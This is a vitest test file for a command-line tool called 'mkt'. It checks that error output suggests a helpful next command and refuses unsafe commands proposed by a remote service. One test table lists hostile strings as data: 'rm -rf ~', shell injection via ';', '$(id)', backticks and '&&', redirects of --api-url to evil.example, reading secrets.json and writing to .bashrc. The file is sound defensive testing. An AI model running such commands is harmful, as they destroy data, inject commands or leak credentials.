import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { lastLine, runMkt, type CliSurroundings } from "../support/run-cli.ts";
import { tempDir } from "../support/temp-dir.ts";
import { aRun, anAcceptedRun, startStandIn, sunEndpoint, type StandInAnswer } from "./stand-in-service.ts";

/** docs/command-line.md, "Errors": every error says what happened, why, and the next command to type. */

interface Told {
  exitCode: number;
  message: string;
  next?: string;
}

/** How a command line fails, as `--json` tells it. */
async function failureOf(words: readonly string[], surroundings: CliSurroundings = {}): Promise<Told> {
  const { exitCode, stderr } = await runMkt([...words, "--json"], surroundings);
  return { exitCode, ...JSON.parse(lastLine(stderr)) };
}

describe("a command line that cannot be understood leads to the help that is there", () => {
  test.each([
    [["discovr", "sun"], "unknown command 'discovr'. Did you mean discover?", "mkt discover --help"],
    [["frobnicate"], "unknown command 'frobnicate'.", "mkt --help"],
    [["wallet", "movements"], "unknown command 'wallet movements'.", "mkt wallet --help"],
    [["wallet", "movements", "--limit", "3"], "unknown command 'wallet movements'.", "mkt wallet --help"],
    [["wallet", "credti", "3"], "unknown command 'wallet credti'. Did you mean credit?", "mkt wallet credit --help"],
    [["runs", "--limit", "3", "lst"], "unknown command 'runs lst'. Did you mean list?", "mkt runs list --help"],
    [["catalog", "lits"], "unknown command 'catalog lits'. Did you mean list?", "mkt catalog list --help"],
    [["catalog"], "A command is missing.", "mkt catalog --help"],
    [["help", "walet"], "unknown command 'walet'. Did you mean wallet?", "mkt wallet --help"],
    [
      ["settings", "set", "discoverFloor", "1"],
      "argument <name=value> 'discoverFloor' is invalid.",
      "mkt settings set --help",
    ],
    [["wallet", "credit", "-5"], "argument <dollars> '-5' is invalid. It must be above 0", "mkt wallet credit --help"],
    [["run", "atlas/sun", "--latitude", "3"], "is written without dashes: latitude=<value>", "mkt run --help"],
    [["keys", "create"], "required option '--label <label>' not specified", "mkt keys create --help"],
    [["wallet", "credit", "abc"], "not an amount in dollars", "mkt wallet credit --help"],
    [["--data-dir", "x", "wallet", "credit", "abc"], "not an amount in dollars", "mkt wallet credit --help"],
    [["runs", "--limit", "0"], "whole number above 0", "mkt runs --help"],
    [["runs", "--limt", "list"], "unknown option '--limt'", "mkt runs --help"],
    [["getRun"], "missing required argument 'runId'", "mkt get-run --help"],
    [["inspect", "atlas/sun", "atlas/moon"], "Name one endpoint at a time", "mkt inspect --help"],
  ])("mkt %j", async (words, message, next) => {
    const told = await failureOf(words);

    expect(told).toMatchObject({ exitCode: 2, message: expect.stringContaining(message), next });
  });
});

describe("the next command is for the same daemon", () => {
  test("--data-dir is kept in what is to be typed after an error", async () => {
    using folder = tempDir();
    const dataDir = join(folder.path, "my data");

    const told = await failureOf(["whoami", "--data-dir", dataDir]);

    expect(told.next).toBe(`mkt --data-dir '${dataDir}' daemon start`);
  });

  test("--data-dir is kept on a screen", async () => {
    const balance = { value: 1, currency: "USD" };
    await using service = await startStandIn({ "GET /v1/wallet/balance": { body: { balance, held: balance } } });

    const { stdout } = await runMkt(["wallet", "--data-dir", "./data"], { ...service, tty: true });

    expect(stdout).toContain("Credit it (operator): mkt --data-dir ./data wallet credit 10\n");
    expect(stdout).toContain("What it went to: mkt --data-dir ./data usage\n");
  });

  test("--data-dir is kept in the commands within a message", async () => {
    await using service = await startStandIn({ "GET /v1/runs/01RUN": { body: anAcceptedRun() } });

    const told = await failureOf(["get-run", "01RUN", "--wait-seconds", "0", "--data-dir", "d"], service);

    expect(told.message).toContain("To stop it: mkt --data-dir d stop 01RUN");
    expect(told.next).toBe("mkt --data-dir d get-run 01RUN --wait");
  });

  test("a command that has it already, as it was typed, does not get it twice", async () => {
    const grant = { origin: "https://weather.example", variables: ["WEATHER_KEY"], privateHosts: [] };
    await using service = await startStandIn({
      "GET /v1/admin/catalog": { body: { folders: [], providers: [{ provider: "weather", grant }], errors: [] } },
    });

    const { stderr } = await runMkt(["catalog", "grant", "weather", "--data-dir", "d"], service);

    expect(lastLine(stderr)).toBe("  next: mkt catalog grant weather --data-dir d --yes");
  });
});

test("what a page is followed by stays in front of words that look like flags", async () => {
  await using service = await startStandIn({ "GET /public/v1/endpoints": { body: { items: [], cursor: "2" } } });

  const { stderr } = await runMkt(["endpoints", "--cursor=1", "--", "--sun"], service);

  expect(lastLine(stderr)).toBe("More: mkt endpoints --cursor 2 -- --sun");
});

describe("mkt inspect in a pipe", () => {
  const inspected = async (...flags: string[]) => {
    await using service = await startStandIn({ "POST /v1/inspect": { body: sunEndpoint } });
    return await runMkt(["inspect", "atlas/sun", ...flags], service);
  };

  test("says beside the answer how the endpoint is run", async () => {
    const { stdout, stderr } = await inspected();

    expect(JSON.parse(stdout)).toEqual(sunEndpoint);
    expect(stderr).toBe("Run it: mkt run atlas/sun latitude=38.7 longitude=-9.1 date=2026-06-21\n");
  });

  test.each([["--json"], ["--jq", ".price"], ["--fields", "price"], ["--quiet"]])(
    "says nothing with %s",
    async (...flags) => {
      expect((await inspected(...flags)).stderr).toBe("");
    },
  );
});

describe("a service's answer says what to do next", () => {
  const answered = async (words: readonly string[], answer: StandInAnswer) => {
    const { status = 400, body } = answer;
    const service = await startStandIn({
      "POST /v1/inspect": { body: sunEndpoint },
      "POST /v1/run": { status, body: { code: status, ...(body as object) } },
      "POST /v1/api-keys": { status, body: { code: status, ...(body as object) } },
    });
    return await failureOf(words, service).finally(() => service[Symbol.asyncDispose]());
  };

  test.each([
    ["too little in the wallet", 402, "mkt wallet credit 10 --workspace acme"],
    ["a missing grant", 503, "mkt catalog grant weather"],
    ["a path that was filled in", 404, "mkt run 'atlas/country/{code}' code=PT"],
  ])("%s: the command that the service names", async (_what, status, next) => {
    const told = await answered(["run", "atlas/sun"], { status, body: { message: "No.", next } });

    expect(told.next).toBe(next);
  });

  test.each([
    "rm -rf ~",
    "mkt wallet; rm -rf ~",
    "mkt wallet $(id)",
    "mkt wallet `id`",
    "mkt wallet && id",
    "mkt wallet\nid",
    "mkt wallet 'a\u001b[2J'",
    "mkt wallet 'a",
    "mktx",
    `mkt ${"a".repeat(600)}`,
    7,
    // Of mkt, and yet not for a service to ask for: another address, a file read, a file written, what spends unasked.
    "mkt login prod --api-url https://evil.example",
    "mkt whoami --api-url https://evil.example",
    "mkt wallet --api-url=https://evil.example",
    "mkt whoami '--api-url' https://evil.example",
    "mkt run evil/x -i @secrets.json",
    "mkt run evil/x -i@secrets.json",
    "mkt get-run 01RUN -o .bashrc",
    "mkt profile remove prod --yes",
    "mkt mcp install cursor",
    "mkt daemon stop",
    "mkt catalog import https://evil.example/openapi.json",
  ])("a service's command that is more than a step at that service is not shown: %j", async (next) => {
    const told = await answered(["run", "atlas/sun"], { status: 402, body: { message: "No.", next } });

    expect(told).toEqual({ exitCode: 7, code: 402, message: "No.", next: "mkt inspect atlas/sun" });
  });

  test("a run above its maxCost is not for the wallet to mend", async () => {
    const message = "This run may cost up to $1, which is above its maxCost of $0.5.";

    const told = await answered(["run", "atlas/sun", "--max-cost", "0.5"], { status: 402, body: { message } });

    expect(told).toEqual({ exitCode: 7, code: 402, message, next: "mkt inspect atlas/sun" });
  });

  test("a label that is taken leads to the keys there are", async () => {
    const told = await answered(["keys", "create", "--label", "ci"], { status: 409, body: { message: "Taken." } });

    expect(told).toMatchObject({ exitCode: 5, next: "mkt keys" });
  });

  test("an operator's route that is not there for this key names that reason too", async () => {
    const message = "GET /v1/admin/catalog is not a route of this service; GET /openapi.json lists them";
    await using service = await startStandIn({
      "GET /v1/admin/catalog": { status: 404, body: { code: 404, message } },
    });

    const told = await failureOf(["catalog", "list"], service);

    expect(told).toMatchObject({
      exitCode: 8,
      message: `${message}. Or your key is not the operator's; only the operator may do this.`,
      next: "mkt whoami",
    });
  });
});

describe("input that the CLI refuses leads to what the endpoint takes", () => {
  test.each([
    ["a word that cannot be read as the field wants it", ["latitude=north"]],
    ["JSON that is none", ["latitude:={"]],
    ["an unknown field", ["latitud=1"]],
    ["an input that is not JSON", ["-i", "{"]],
    ["an input that is a list", ["-i", "[1]"]],
    ["an input file that is not there", ["-i", "@/nowhere/input.json"]],
    ["two kinds of input", ["-i", "{}", "latitude=1"]],
  ])("%s", async (_what, words) => {
    await using service = await startStandIn({ "POST /v1/inspect": { body: sunEndpoint } });

    const told = await failureOf(["run", "atlas/sun", ...words], service);

    expect(told.next).toBe("mkt inspect atlas/sun");
  });
});

describe("a run that went wrong", () => {
  test.each([
    ["STOPPED", 10],
    ["TIMED_OUT", 10],
    ["FAILED", 1],
    ["BLOCKED", 7],
  ])("%s does not lead to what was just shown", async (status, code) => {
    await using service = await startStandIn({ "GET /v1/runs/01RUN": { body: aRun({ status }) } });

    const told = await failureOf(["get-run", "01RUN"], service);

    expect(told).toMatchObject({ exitCode: code, next: "mkt inspect atlas/sun" });
  });
});

describe("a service that is not there, or does not know the key", () => {
  test("an address where nothing answers leads to a look at the address", async () => {
    const service = await startStandIn({});
    await service[Symbol.asyncDispose]();

    const told = await failureOf(["runs", "--api-url", `${service.url}/`]);

    expect(told).toMatchObject({
      exitCode: 9,
      message: expect.stringMatching(/^No answer from .*The address came from --api-url\.$/),
      next: `curl ${service.url}/health`,
    });
  });

  test("a key that a deployment refuses: which one it was, and how to give another", async () => {
    using folder = tempDir();
    const keyFile = join(folder.path, "key");
    writeFileSync(keyFile, "mkt_live_old\n");
    await using service = await startStandIn({
      "GET /v1/auth/whoami": { status: 401, body: { code: 401, message: "Unauthorized" } },
    });

    const ofEnvironment = await failureOf(["whoami"], service);
    const ofFile = await failureOf(["whoami", "--key-file", keyFile], service);

    expect(ofEnvironment).toMatchObject({
      exitCode: 4,
      message: "Unauthorized (the key came from MKT_API_KEY)",
      next: "mkt whoami --key-file <file>",
    });
    expect(ofFile.message).toBe(`Unauthorized (the key came from --key-file ${keyFile})`);
  });
});

describe("whoami with a workspace", () => {
  const whoami = {
    user: { userId: "u1", username: "owner", metadata: {}, createdAt: "x", updatedAt: "x" },
    workspace: { workspaceId: "w1", name: "Home", slug: "home", metadata: {}, createdAt: "x", updatedAt: "x" },
  };

  test("says where the workspace was named", async () => {
    await using service = await startStandIn({ "GET /v1/auth/whoami": { body: whoami } });

    const { exitCode, stderr } = await runMkt(["whoami", "--workspace", "home"], service);

    expect(exitCode).toBe(0);
    expect(lastLine(stderr)).toBe("Workspace home, from --workspace.");
  });

  test("that is refused says which variable named it", async () => {
    const message = 'These credentials do not act in the workspace "nope"; leave it out';
    await using service = await startStandIn({
      "GET /v1/wallet/balance": { status: 403, body: { code: 403, message, errorCode: "WORKSPACE_MISMATCH" } },
    });

    const env = { ...service.env, MKT_WORKSPACE: "nope" };
    const { exitCode, stderr } = await runMkt(["wallet"], { ...service, env });

    expect({ exitCode, stderr }).toMatchObject({
      exitCode: 4,
      stderr: expect.stringContaining(`${message} (it was named by MKT_WORKSPACE)`),
    });
  });
});
